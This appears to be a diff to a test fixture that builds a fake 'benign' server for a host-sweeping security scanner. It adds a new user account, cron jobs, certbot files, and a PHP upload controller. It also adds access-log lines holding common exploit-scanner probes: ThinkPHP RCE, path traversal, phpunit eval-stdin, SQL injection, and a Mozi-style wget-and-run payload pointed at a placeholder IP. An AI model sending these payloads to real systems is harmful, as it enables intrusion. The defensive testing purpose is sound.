@@ -230,6 +230,25 @@ export function buildBenignServer(now: Date, prefix = 'hostsweep-benign-'): Fake
     );
   chown('/var/spool/cron/crontabs/deploy', 1001);
 
+  // A colleague who joined this week: account and key three days old, no admin rights.
+  const carolDay = Math.floor(ago(3).getTime() / 86_400_000);
+  for (const [file, l] of [
+    ['/etc/passwd', 'carol:x:1002:1002:Carol,,,:/home/carol:/bin/bash'],
+    ['/etc/shadow', `carol:$6$Qe9$hash:${carolDay}:0:99999:7:::`],
+    ['/etc/group', 'carol:x:1002:'],
+    ['/etc/gshadow', 'carol:!::'],
+  ] as const)
+    root.write(file, `${fs.readFileSync(root.p(file), 'utf8')}${l}\n`, { mtime: ago(3), mode: fs.statSync(root.p(file)).mode & 0o7777 });
+  root
+    .write(
+      '/home/carol/.ssh/authorized_keys',
+      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK8rT3dQmZxw0Yb8m6cV2u9pL4sE7nH1jA5fG0kD3bWq carol@laptop\n',
+      { mode: 0o600, mtime: ago(3) },
+    )
+    .write('/home/carol/.bashrc', '# ~/.bashrc\n', { mtime: ago(3) });
+  for (const p of ['/home/carol', '/home/carol/.ssh', '/home/carol/.ssh/authorized_keys', '/home/carol/.bashrc']) chown(p, 1002);
+  fs.chmodSync(root.p('/home/carol/.ssh'), 0o700);
+
   // The admin's own tools: a deploy hook, a backup script, a static docker-compose.
   root
     .write('/usr/local/bin/deploy-hook', DEPLOY_HOOK, { mode: 0o755, mtime: ago(90) })
@@ -335,16 +354,118 @@ export function buildBenignServer(now: Date, prefix = 'hostsweep-benign-'): Fake
     ['198.51.100.99', 'GET', '/wp-login.php', 404],
     ['198.51.100.99', 'GET', '/.env', 404],
     ['198.51.100.99', 'GET', '/phpmyadmin/', 404],
+    [
+      '198.51.100.99',
+      'GET',
+      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP',
+      404,
+    ],
+    ['198.51.100.120', 'GET', '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.120/jaws;sh+/tmp/jaws', 404],
+    ['198.51.100.121', 'GET', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400],
+    ['198.51.100.122', 'POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 404],
+    ['192.0.2.53', 'POST', '/index.php?route=account/login', 200],
+    ['192.0.2.54', 'GET', '/uploads/2026/product-17.jpg', 200],
   ]
     .map(
       ([ip, m, url, st], i) =>
         `${ip} - - [${clf(new Date(day.getTime() + i * 60_000))}] "${m} ${url} HTTP/1.1" ${st} 512 "-" "Mozilla/5.0 (X11; Linux x86_64)"`,
     )
     .join('\n');
-  root.write('/var/log/nginx/access.log', `${access}\n`, { mtime: day });
+  // A day of traffic: shoppers (GET pages, POST checkout and login), the app's API, and the
+  // Internet's exploit scanners (ThinkPHP, Mozi, path traversal, phpunit), all refused.
+  const probes = [
+    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP',
+    '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.120/jaws;sh+/tmp/jaws',
+    '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
+    '/?XDEBUG_SESSION_START=phpstorm',
+    "/index.php?id=1'%20union%20select%201,2,3--",
+    '/.git/config',
+  ];
+  const busy: string[] = [];
+  for (let i = 0; i < 600; i++) {
+    const t = clf(new Date(day.getTime() + 3_600_000 + i * 30_000));
+    const client = `192.0.2.${60 + (i % 120)}`;
+    const ua = '"https://shop.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"';
+    if (i % 5 === 0) busy.push(`${client} - - [${t}] "POST /index.php?route=checkout/confirm HTTP/1.1" 200 833 ${ua}`);
+    else if (i % 7 === 0) busy.push(`${client} - - [${t}] "POST /index.php?route=account/login HTTP/1.1" 302 0 ${ua}`);
+    else if (i % 3 === 0) busy.push(`${client} - - [${t}] "GET /api/products?page=${i % 9} HTTP/1.1" 200 4411 ${ua}`);
+    else busy.push(`${client} - - [${t}] "GET /index.php?route=product/product&product_id=${i % 40} HTTP/1.1" 200 9120 ${ua}`);
+    if (i % 4 === 0) {
+      const scanner = `198.51.100.${130 + (i % 25)}`;
+      busy.push(
+        `${scanner} - - [${t}] "GET ${probes[i % probes.length]} HTTP/1.1" ${i % 8 === 0 ? 404 : 400} 162 "-" "Mozilla/5.0 zgrab/0.x"`,
+      );
+    }
+  }
+  root.write('/var/log/nginx/access.log', `${access}\n${busy.join('\n')}\n`, { mtime: new Date(day.getTime() + 6 * 3_600_000) });
+  // More of what busy servers carry: a health-check ping and certificate renewal in cron, the
+  // X11/ICE socket directories and PHP sessions in /tmp, renewed certificates in /etc, docker's
+  // kernel modules, a monitoring exporter in /opt, composer in /usr/local/bin, vendor PHP that
+  // decodes uploads, a PATH addition in profile.d.
+  installPackage(
+    root,
+    'certbot',
+    {
+      '/usr/bin/certbot': '#!/usr/bin/python3\nimport certbot.main\n',
+      '/etc/cron.d/certbot':
+        "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n",
+    },
+    old,
+  );
+  root
+    .write(
+      '/etc/cron.d/healthcheck',
+      '*/5 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/2f9a7c1e-5b7d-4f0a-9c55-3e1d2b7a9f10\n',
+      old,
+    )
+    .write('/etc/letsencrypt/live/shop.example.com/README', 'This directory contains your keys and certificates.\n', { mtime: ago(2) })
+    .write('/etc/letsencrypt/archive/shop.example.com/fullchain3.pem', '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n', {
+      mtime: ago(2),
+    })
+    .write('/etc/letsencrypt/renewal/shop.example.com.conf', 'version = 2.1.0\narchive_dir = /etc/letsencrypt/archive/shop.example.com\n', {
+      mtime: ago(2),
+    })
+    .write('/etc/modules-load.d/docker.conf', 'overlay\nbr_netfilter\n', old)
+    .write('/etc/sysctl.d/99-docker.conf', 'net.ipv4.ip_forward = 1\nnet.bridge.bridge-nf-call-iptables = 1\n', old)
+    .write('/etc/profile.d/app-path.sh', 'export PATH="$PATH:/srv/app/node_modules/.bin"\n', old)
+    .write(
+      '/etc/hosts',
+      '127.0.0.1\tlocalhost\n10.0.0.5\tdb.internal\n10.0.0.6\tredis.internal\n::1\tlocalhost ip6-localhost ip6-loopback\n',
+      old,
+    )
+    .write(
+      '/etc/ssh/sshd_config.d/10-hardening.conf',
+      'PasswordAuthentication no\nPermitRootLogin prohibit-password\nMaxAuthTries 3\n',
+      old,
+    )
+    .write('/opt/node_exporter/node_exporter', inertElf('node_exporter'), { mode: 0o755, mtime: ago(180) })
+    .write(
+      '/etc/systemd/system/node_exporter.service',
+      unit('Prometheus node exporter', '/opt/node_exporter/node_exporter --web.listen-address=:9100'),
+      old,
+    )
+    .symlink('/etc/systemd/system/multi-user.target.wants/node_exporter.service', '/etc/systemd/system/node_exporter.service')
+    .write(
+      '/usr/local/bin/composer',
+      "#!/usr/bin/env php\n<?php\nPhar::mapPhar('composer.phar');\nrequire 'phar://composer.phar/bin/composer';\n__HALT_COMPILER();\n",
+      { mode: 0o755, mtime: ago(150) },
+    )
+    .write(
+      '/var/www/shop/app/Http/Controllers/AvatarController.php',
+      "<?php\nnamespace App\\Http\\Controllers;\nclass AvatarController {\n  public function store($request) {\n    $data = base64_decode($_POST['avatar']);\n    file_put_contents(storage_path('avatars/' . md5($data) . '.png'), $data);\n  }\n}\n",
+      old,
+    )
+    .write('/var/www/shop/public/uploads/2026/product-17.jpg', Buffer.from('ffd8ffe000104a464946', 'hex'), { mtime: ago(4) })
+    .mkdir('/tmp/.X11-unix')
+    .mkdir('/tmp/.ICE-unix')
+    .mkdir('/tmp/.font-unix')
+    .write('/tmp/systemd-private-5f1c2e-php8.2-fpm.service-Ab12Cd/tmp/sess_3k9d0s1a2b', 'cart|a:0:{}', { mtime: ago(0.1) })
+    .write('/var/tmp/backups/www-1.tar.gz', Buffer.from('1f8b0800000000000003', 'hex'), { mtime: ago(1) });
   root.write(
     '/root/.bash_history',
-    'apt update && apt upgrade -y\nsystemctl status nginx php8.2-fpm mariadb\ntail -f /var/log/nginx/error.log\ndocker ps\ncrontab -l\nvim /etc/nginx/sites-available/shop\nnginx -t && systemctl reload nginx\n',
+    'apt update && apt upgrade -y\ncurl -fsSL https://get.docker.com | sh\ncurl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nsystemctl status nginx php8.2-fpm mariadb\ntail -f /var/log/nginx/error.log\ndocker ps\ncrontab -l\nvim /etc/nginx/sites-available/shop\nnginx -t && systemctl reload nginx\n',
     { mode: 0o600, mtime: ago(2) },
   );
   return root;
